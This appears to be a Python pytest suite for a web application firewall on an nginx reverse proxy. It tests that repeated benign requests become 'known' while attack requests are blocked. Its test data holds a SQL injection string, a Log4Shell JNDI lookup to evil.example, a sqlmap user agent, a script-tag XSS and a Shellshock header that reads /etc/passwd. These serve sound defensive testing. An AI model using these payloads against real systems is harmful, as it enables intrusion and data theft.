# SPDX-License-Identifier: GPL-3.0-or-later
"""What the firewall knows to be harmless passes it at once, and nothing else ever does."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

if TYPE_CHECKING:
    from molecule.reverse_proxy.tests.conftest import Answer, Edge, Lab

TIMES = 5  # met twice, tried meanwhile
SQL = "1' or 1=1-- -"


def way_of(edge: Edge, answer: Answer) -> str:
    """What the access log says the firewall did with a request."""
    (line,) = edge.access_log(answer.header("x-request-id"))
    return str(line["waf"])


def ask(edge: Edge, path: str, *options: str) -> list[Answer]:
    """The same request several times, with time for a trial between them."""
    answers = []
    for _number in range(TIMES):
        answers.append(edge.get(path, *options))
        time.sleep(0.2)
    return answers


def become_known(edge: Edge) -> None:
    """What curl sends with every request."""
    assert way_of(edge, ask(edge, "/v1/known")[-1]) == "known"


def test_an_honest_request_becomes_known(edge: Edge) -> None:
    path = f"/v1/items/{'x' * (time.time_ns() % 50)}{time.time_ns()}?page=2&sort=-name"
    answers = ask(edge, path)
    assert {answer.status for answer in answers} == {200}
    assert [way_of(edge, answers[0]), way_of(edge, answers[-1])] == ["passed", "known"]


def test_keeping_the_connection_is_no_obstacle(edge: Edge) -> None:
    options = ("--http1.1", "-H", "Connection: keep-alive", "-H", "User-Agent: python-requests/2.32.3")
    assert way_of(edge, ask(edge, "/v1/known", *options)[-1]) == "known"


def test_what_is_alike_is_known_with_one(edge: Edge) -> None:
    become_known(edge)
    trace = "traceparent: 00-{:032x}-{:016x}-01"
    ask(edge, "/v1/parcels/17/parts?after=99", "-H", trace.format(3, 4))
    for path, number in (
        ("/v1/parcels/4711/parts?after=3", 5),
        ("/v1/parcels/7f9c24e5-2b0c-4c7a-9d6e-1f2a3b4c5d6e/parts?after=0123456789abcdef", time.time_ns()),
    ):
        assert way_of(edge, edge.get(path, "-H", trace.format(number, number))) == "known"
    # A number with anything beside it is not a number.
    for path in (
        "/v1/parcels/17a/parts?after=99",
        "/v1/parcels/17/parts?after=99-",
        "/v1/parcels/17%00/parts?after=9",
    ):
        assert way_of(edge, edge.get(path)) != "known"


@pytest.mark.parametrize(
    ("path", "options"),
    [
        (f"/v1/known?q={quote(SQL)}", ()),
        ("/v1/known", ("-H", "X-Api-Version: ${jndi:ldap://evil.example/a}")),
        ("/v1/known", ("-A", "sqlmap/1.7")),
        ("/v1/known", ("-H", f"Cookie: id={quote(SQL)}")),
        ("/v1/known", ("-H", "Referer: https://a.example/?q=<script>alert(1)</script>")),
        ("/v1/known", ("-H", "User-Agent: () { :; }; /bin/cat /etc/passwd")),
    ],
    ids=["query", "header", "scanner", "cookie", "referer", "shell"],
)  # fmt: skip
def test_no_attack_becomes_known(edge: Edge, path: str, options: tuple[str, ...]) -> None:
    become_known(edge)
    answers = ask(edge, path, *options)
    assert {answer.status for answer in answers} == {403}
    # What came with it is not taken for what it was.
    become_known(edge)


def test_a_small_hit_is_never_known(edge: Edge) -> None:
    """Below the score of an attack it passes each time, and is looked at each time: two of them may be one."""
    become_known(edge)
    answers = ask(edge, "/v1/known?x=%zz1")
    assert {answer.status for answer in answers} == {200}
    assert {way_of(edge, answer) for answer in answers} == {"passed"}


@pytest.mark.parametrize(
    "options",
    [
        ("-H", "Content-Type: application/json", "-d", "{}"),
        ("-X", "GET", "-d", "a=1"),
        ("-X", "PUT"),
        ("-H", "Range: bytes=0-10"),
        ("-H", "X-Twice: a", "-H", "X-Twice: b"),
        ("-H", "X-Empty;"),
        ("-H", f"X-Long: {'a' * 5000}"),
        ("--http1.0",),
    ],
    ids=["a body", "a body with GET", "a method with a body", "a part", "a header twice", "an empty header", "a long header", "HTTP 1.0"],
)  # fmt: skip
def test_what_cannot_be_judged_by_its_parts_is_never_known(edge: Edge, options: tuple[str, ...]) -> None:
    become_known(edge)
    assert "known" not in {way_of(edge, answer) for answer in ask(edge, "/v1/known", *options)}


def test_a_body_that_was_not_announced_goes_nowhere(edge: Edge) -> None:
    """HTTP/2 needs no Content-Length. A known request with a body is the request without it."""
    become_known(edge)
    body = ("-X", "GET", "-T", "/etc/hostname", "-H", "Content-Length:", "-H", "Content-Type:")
    answer = edge.get("/v1/known", *body, "--http2")
    assert (answer.status, way_of(edge, answer)) == (200, "known")
    assert (answer.json["content_length"], answer.json["transfer_encoding"]) == ("", "")


def test_a_reload_forgets(edge: Edge) -> None:
    become_known(edge)
    edge.lab.run(edge.name, "systemctl", "reload", "nginx.service")
    time.sleep(2)
    assert way_of(edge, edge.get("/v1/known")) == "passed"
    become_known(edge)


def test_what_is_excluded_at_one_path_is_not_known_at_another(lab: Lab) -> None:
    from molecule.reverse_proxy.tests.conftest import EDGES, Edge, finish

    exclusion = {"path": "/v1/known/sql", "reason": "Takes queries", "tags": ["attack-sqli"]}
    cookie = ("-H", f"Cookie: id={quote(SQL)}")
    try:
        finish(lab.playbook("waf.yml", reverse_proxy_waf_exclusions=[exclusion]))
        for edge in (Edge(name, lab) for name in EDGES):
            become_known(edge)
            assert {answer.status for answer in ask(edge, "/v1/known/sql", *cookie)} == {200}
            assert edge.get("/v1/known", *cookie).status == 403
    finally:
        finish(lab.playbook("waf.yml"))


def test_an_application_cannot_say_what_the_firewall_did(edge: Edge) -> None:
    """The stand-in sends X-Accel-Redirect with each answer, which redirects nothing and is in no log."""
    become_known(edge)
    answer = edge.get("/v1/known")
    assert (answer.status, answer.json["uri"], way_of(edge, answer)) == (200, "/v1/known", "known")
